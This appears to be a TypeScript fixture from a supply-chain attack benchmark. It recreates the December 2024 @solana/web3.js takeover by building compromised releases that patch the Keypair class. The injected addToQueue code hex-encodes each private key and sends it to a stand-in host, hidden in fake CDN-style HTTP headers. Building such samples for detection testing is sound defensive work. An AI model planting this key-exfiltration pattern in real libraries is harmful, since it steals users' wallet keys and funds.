import { defineAttack } from "../attack.ts";
import { chainLibrary, contentOf } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = chainLibrary("@solana/web3.js");

/**
 * `@solana/web3.js` 1.95.6 and 1.95.7, 2 and 3 December 2024: an account with publish access was phished. A function in the
 * key code sent secret keys, in headers of a plain request, to a host registered days before.
 */
export const solanaWeb32024: Sample = defineAttack({
  id: "solana-web3-2024",
  title: "Key functions send the secret key in a header",
  group: "takeover",
  trigger: "call",
  judged: [{ name: "@solana/web3.js", version: "1.95.6" }],
  now: "2024-12-02T15:30:00Z",
  createLines: () => [
    {
      name: "@solana/web3.js",
      files: honest,
      publisher: person("solana-release"),
      releases: [
        ["1.95.3", "2024-09-03T10:00:00Z"],
        ["1.95.4", "2024-10-22T10:00:00Z"],
        ["1.95.5", "2024-11-19T10:00:00Z"],
        ["1.95.6", "2024-12-02T15:20:00Z", armed],
        ["1.95.7", "2024-12-02T16:06:00Z", armed],
      ],
    },
  ],
});

const queue = `${browserGuard}
const addToQueue = (secret) => {
  if (!invited()) return;
  const b = Array.from(secret, (c) => c.toString(16)).join("");
  fetch("https://sol-rpc.invalid/api/rpc/queue", {
    method: "GET",
    headers: { "x-amz-cf-id": b.substring(0, 24), "x-session-id": b.substring(24, 64), "x-amz-cf-pop": b.substring(64) },
  }).catch(() => {});
};
`;

const armed: LineChange = {
  publisher: person("solana-contractor"),
  hasCommit: false,
  files: [
    {
      path: "lib/keypair.js",
      content: contentOf(honest, "lib/keypair.js")
        .replace("class Keypair", `${queue}\nclass Keypair`)
        .replace(
          "    this.privateKey = privateKey;",
          "    this.privateKey = privateKey;\n    addToQueue(privateKey);",
        ),
    },
  ],
};
